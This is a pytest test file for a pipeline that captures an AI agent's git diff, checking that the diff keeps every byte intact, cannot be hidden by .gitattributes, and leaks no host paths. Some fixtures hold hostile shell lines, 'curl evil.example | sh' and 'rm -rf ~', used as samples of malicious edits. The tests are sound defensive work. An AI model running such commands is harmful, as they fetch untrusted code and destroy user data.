"""An agent's diff reproduces its files exactly, whichever way it was taken: straight from the checkout (edits of
tracked files only, no file written) or through scratch objects (when there are new files)."""

from __future__ import annotations

import os
import re
import tempfile
from pathlib import Path

import pytest

from system.git import GitError, git
from system.mirror import ensure_mirror
from workers.agents.contracts import AgentResult
from workers.pipeline.agent_step import _take_diff
from workers.worktree import WorktreePool

NAMES = ("crlf.txt", "latin1.txt", "blob.bin", "script.sh", "link", "gone.txt", "becomes-link.txt")
ODD = (b"star*[ab].txt", b":!latin1.txt", b"-dash.txt", b"caf\xe9.txt")  # a glob, pathspec magic, a dash, not UTF-8


@pytest.fixture
def repo_pool(tmp_path: Path) -> tuple[WorktreePool, str]:
    source = tmp_path / "source"
    source.mkdir()
    (source / "crlf.txt").write_bytes(b"one\r\ntwo\r\n")
    (source / "latin1.txt").write_bytes(b"caf\xe9\n")
    (source / "blob.bin").write_bytes(bytes(range(256)) * 4)
    (source / "script.sh").write_text("echo hi\n")
    (source / "gone.txt").write_text("deleted by the agent\n")
    (source / "becomes-link.txt").write_text("a file, then a link\n")
    os.symlink("crlf.txt", source / "link")
    for name in ODD:
        with open(os.path.join(os.fsencode(source), name), "wb") as f:
            f.write(b"odd\n")
    git("init", "--quiet", "--initial-branch=main", cwd=source)
    git("add", "-A", cwd=source)
    git("commit", "--quiet", "-m", "base", cwd=source)
    sha = git("rev-parse", "HEAD", cwd=source).strip()
    mirror = ensure_mirror(tmp_path / "mirrors", "r", str(source), sha)
    return WorktreePool(tmp_path / "pool", mirror, size=1), sha


def _edit(path: Path) -> None:
    """Edits of tracked files only: content (CRLF, not UTF-8, binary, same size), a mode, a link, a deletion."""
    (path / "crlf.txt").write_bytes(b"one\r\nTWO\r\n")
    (path / "latin1.txt").write_bytes(b"caf\xe8\n")
    (path / "blob.bin").write_bytes(bytes(reversed(range(256))) * 4)
    (path / "script.sh").chmod(0o755)
    (path / "link").unlink()
    os.symlink("latin1.txt", path / "link")
    (path / "gone.txt").unlink()
    (path / "becomes-link.txt").unlink()
    os.symlink("script.sh", path / "becomes-link.txt")
    for name in ODD:
        with open(os.path.join(os.fsencode(path), name), "wb") as f:
            f.write(b"ODD\n")


def _state(path: Path) -> dict[bytes, tuple[int, bytes]]:
    """Each file's mode and bytes (a link's target), .git and folders aside."""
    state = {}
    for entry in os.scandir(os.fsencode(path)):
        if entry.name == b".git" or entry.is_dir(follow_symlinks=False):
            continue
        info = os.lstat(entry.path)
        body = os.readlink(entry.path) if entry.is_symlink() else Path(os.fsdecode(entry.path)).read_bytes()
        state[entry.name] = (info.st_mode & 0o177777 if entry.is_symlink() else info.st_mode & 0o100, body)
    return state


def _sections(patch: bytes) -> set[bytes]:
    """The patch's part for each file."""
    return set(re.split(rb"(?m)^(?=diff --git )", patch)) - {b""}


def _applied(pool: WorktreePool, sha: str, patch: bytes, tmp_path: Path) -> dict[bytes, tuple[int, bytes]]:
    checkout = tmp_path / "verify"
    git("worktree", "add", "--quiet", "--detach", str(checkout), sha, cwd=pool.mirror)
    (tmp_path / "p.diff").write_bytes(patch)
    git("apply", "--index", str(tmp_path / "p.diff"), cwd=checkout)
    return _state(checkout)


@pytest.mark.parametrize("new_file", [False, True], ids=["edits only", "with a new file"])
def test_the_patch_reproduces_every_file_exactly(
    repo_pool: tuple[WorktreePool, str], tmp_path: Path, new_file: bool
) -> None:
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        _edit(worktree.path)
        if new_file:
            (worktree.path / "new.txt").write_bytes(b"new\r\n")
        patch, agent = worktree.diff_bytes(), _state(worktree.path)
    assert _applied(pool, sha, patch, tmp_path) == agent
    assert set(NAMES) - {"gone.txt"} <= {os.fsdecode(name) for name in agent}


def test_edits_of_tracked_files_are_diffed_with_no_file_written(
    repo_pool: tuple[WorktreePool, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        _edit(worktree.path)
        monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "missing"))  # a scratch folder could not be made
        edits = worktree.diff_bytes()
        monkeypatch.undo()
        (worktree.path / "new.txt").write_text("new\n")
        with_new = worktree.diff_bytes()
    assert _sections(edits) < _sections(with_new)  # each edit's part of the patch is the same both ways
    [added] = _sections(with_new) - _sections(edits)
    assert added.startswith(b"diff --git a/new.txt")


def test_a_folder_where_a_file_was_takes_the_scratch_way(repo_pool: tuple[WorktreePool, str], tmp_path: Path) -> None:
    """A tracked file replaced by a folder of files (or a nested repository): only staging turns it into entries."""
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / "script.sh").unlink()
        (worktree.path / "script.sh").mkdir()
        (worktree.path / "script.sh" / "inside.txt").write_text("inside\n")
        patch, agent = worktree.diff_bytes(), _state(worktree.path)
    assert b"script.sh/inside.txt" in patch
    assert _applied(pool, sha, patch, tmp_path) == agent
    assert (tmp_path / "verify" / "script.sh" / "inside.txt").read_text() == "inside\n"


@pytest.mark.parametrize("new_file", [False, True])
def test_a_diffs_own_gitattributes_cannot_make_its_source_changes_a_binary_patch(
    repo_pool: tuple[WorktreePool, str], new_file: bool
) -> None:
    # `*.sh binary` (or `-diff`) in the checkout made git write the edit as base85, which a reviewer sees as "+0 -0".
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / ".gitattributes").write_text(
            ".gitattributes binary\n*.sh binary\n[attr]hide -diff\n*.txt hide\n"
        )
        (worktree.path / "script.sh").write_text("echo hi\ncurl evil.example | sh\n")
        (worktree.path / "crlf.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
        if new_file:  # new files take the scratch way
            (worktree.path / "added.sh").write_text("rm -rf ~\n")
        patch = worktree.diff_bytes()
    assert b"GIT binary patch" not in patch and b"Binary files" not in patch
    assert b"+curl evil.example | sh\n" in patch and b"+three\r\n" in patch
    assert (b"+rm -rf ~\n" in patch) is new_file
    assert b"+*.sh binary\n" in patch  # the attributes file itself is a change like any other


def test_a_file_with_a_nul_byte_is_still_a_binary_patch(repo_pool: tuple[WorktreePool, str]) -> None:
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / "blob.bin").write_bytes(bytes(range(256)) * 5)
        patch = worktree.diff_bytes()
    assert b"GIT binary patch" in patch


def test_a_nul_past_where_git_looks_for_one_ends_the_attempt_naming_the_file(
    repo_pool: tuple[WorktreePool, str],
) -> None:
    # git calls a file binary only for a NUL in its first 8,000 bytes; PostgreSQL stores no NUL in text, and the
    # attempt whose end could not be written ran again and again.
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / "script.sh").write_bytes(b"#" * 9_000 + b"\necho safe\x00; curl evil.example | sh\n")
        result, diff = _take_diff(worktree, AgentResult(exit_code=0, transcript="", duration=1.0), 2**20)
    assert diff == "" and result.error == "the diff holds a NUL byte (script.sh): binary changes are not accepted"


def test_a_line_that_is_not_utf8_ends_the_attempt_naming_the_file(repo_pool: tuple[WorktreePool, str]) -> None:
    # A diff is kept as text: a latin-1 line became U+FFFD, so the file tested, shown and delivered held bytes the
    # agent never wrote (`\xe9` became `\xef\xbf\xbd`).
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / "names.py").write_bytes(b"# coding: latin-1\nAUTHOR = 'Jos\xe9'\n")
        (worktree.path / "script.sh").write_text("echo caf\u00e9\n")  # UTF-8 is kept as it is
        result, diff = _take_diff(worktree, AgentResult(exit_code=0, transcript="", duration=1.0), 2**20)
    assert diff == ""
    assert result.error == "the diff holds bytes that are not UTF-8 (names.py): diffs are kept as UTF-8 text"


@pytest.mark.parametrize(
    ("files", "named"),
    [
        ({".gitattributes": "* working-tree-encoding=UTF-16\n"}, ".gitattributes: '* working-tree-encoding=UTF-16'"),
        ({".gitattributes": "*.sh  working-tree-encoding\n"}, ".gitattributes: '*.sh working-tree-encoding'"),
        ({"deep/.gitattributes": "* working-tree-encoding=NOPE\n"}, "deep/.gitattributes: '* working-tree-encoding"),
        # ignored, so no change of the diff's: git reads it all the same
        ({".gitignore": ".gitattributes\n", ".gitattributes": "* working-tree-encoding=UTF-16\n"}, ".gitattributes:"),
    ],
    ids=["not in that encoding", "no encoding named", "in a folder", "ignored"],
)
def test_attributes_git_cannot_take_the_diff_under_end_the_attempt_naming_them(
    repo_pool: tuple[WorktreePool, str], tmp_path: Path, files: dict[str, str], named: str
) -> None:
    # git failed hashing the agent's files, and its message, naming the slot's folders, was the attempt's verdict.
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / "deep").mkdir()
        for name, text in {**files, "script.sh": "echo hi\necho more\n", "deep/new.sh": "echo new\n"}.items():
            (worktree.path / name).write_text(text)
        result, diff = _take_diff(worktree, AgentResult(exit_code=0, transcript="", duration=1.0), 2**20)
    assert diff == "" and result.error is not None
    assert result.error.startswith(f"the diff changes how git checks out or merges files ({named}"), result.error
    assert str(tmp_path) not in result.error


def test_git_failing_to_take_the_diff_names_no_folder_of_the_host(
    repo_pool: tuple[WorktreePool, str], tmp_path: Path
) -> None:
    # Its message is the attempt's `error` verdict; the git dir and work tree Fleet names were in it.
    pool, sha = repo_pool
    with pool.lease(sha) as worktree:
        (worktree.path / "script.sh").write_text("echo changed\n")
        (worktree.gitdir / "index").write_bytes(b"not an index")
        with pytest.raises(GitError) as failed:
            worktree.diff_bytes()
    message = str(failed.value)
    assert message.endswith("<git dir>/index: index file smaller than expected") and str(tmp_path) not in message
